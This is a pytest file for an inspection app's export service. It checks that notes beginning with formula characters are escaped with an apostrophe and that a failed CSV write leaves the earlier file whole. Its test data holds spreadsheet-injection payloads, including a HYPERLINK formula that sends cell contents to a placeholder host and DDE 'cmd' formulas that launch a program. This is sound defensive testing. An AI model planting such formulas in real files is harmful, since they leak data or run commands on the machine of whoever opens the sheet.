"""Exports never carry a live formula, and an export appears whole or not at all
(issue "Case data protected at rest", item 8: safe inputs and outputs)."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest
from scenes import AB, Team

from probdesk.domain.cells import safe_cell
from probdesk.hub.store import Hub
from probdesk.services import hub as hubs

# Notes an assessor might type, or a hostile one might: each would run in a spreadsheet.
NOTES = (
    '=HYPERLINK("http://example.invalid/?q="&A1,"Click for the record")',
    "=cmd|' /C calc'!A0",
    "+44 1234 567890 rang the PO",
    "-2+3 missed contacts",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\tindented with a tab",
    "\rstarts with a carriage return",
)
QUESTIONS = ("2.1.1", "2.1.1.a", "2.2.3.b", "2.4.2.b", "CW1", "2.1.2", "2.1.3")


def test_a_cell_that_would_start_a_formula_gets_an_apostrophe() -> None:
    for text in NOTES:
        assert safe_cell(text) == "'" + text
    for kept in ("yes", "A1", "Plymouth", "", "50%", "a = b", "e-mail"):
        assert safe_cell(kept) == kept
    assert safe_cell(-3) == -3 and safe_cell(2.5) == 2.5  # numbers stay numbers
    assert safe_cell(None) == ""


@pytest.fixture
def hub_with_hostile_notes(team: Team, url: str) -> str:
    ab = team.laptops[AB]
    a1 = team.case(AB, "A1")
    for q, note in zip(QUESTIONS, NOTES, strict=True):
        ab.ws.record_answer(a1, q, "yes", note)
    team.export(AB)
    team.merge(url)
    return url


def export(url: str, team: Team, fmt: str, out: Path) -> Path:
    hub = Hub(url)
    try:
        rows = hubs.export_rows(hub, team.inspection_id, with_notes=True)
        return hubs.write_export(rows, fmt, out, with_notes=True)
    finally:
        hub.close()


def test_the_csv_export_neutralises_every_formula(
    team: Team, hub_with_hostile_notes: str, tmp_path: Path
) -> None:
    out = export(hub_with_hostile_notes, team, "csv", tmp_path / "data.csv")
    with out.open(encoding="utf-8-sig", newline="") as f:
        rows = list(csv.DictReader(f))
    notes = {r["question_id"]: r["note"] for r in rows if r["case_ref"] == "A1" and r["note"]}
    assert notes == {q: "'" + n for q, n in zip(QUESTIONS, NOTES, strict=True)}
    for r in rows:
        for value in r.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value


# The XLSX export (the analysts' workbook) and its hostile notes: test_workbook.py.


@pytest.mark.parametrize("fmt", ["csv"])
def test_a_failed_export_leaves_the_earlier_file_whole_and_nothing_else(
    team: Team, hub_with_hostile_notes: str, tmp_path: Path, fmt: str
) -> None:
    out = export(hub_with_hostile_notes, team, fmt, tmp_path / "out" / f"data.{fmt}")
    before = out.read_bytes()
    hub = Hub(hub_with_hostile_notes)
    try:
        rows = hubs.export_rows(hub, team.inspection_id, with_notes=False)
    finally:
        hub.close()
    rows[-1] = {**rows[-1], "pdu": Unwritable()}  # fails after most rows were written
    with pytest.raises((RuntimeError, ValueError)):
        hubs.write_export(rows, fmt, out, with_notes=False)
    assert out.read_bytes() == before
    assert sorted(p.name for p in out.parent.iterdir()) == [f"data.{fmt}"]


class Unwritable:
    """A value whose writing fails half-way through an export (as a full disk would)."""

    def __str__(self) -> str:
        raise RuntimeError("the disk went away")

    def __repr__(self) -> str:
        return "Unwritable()"
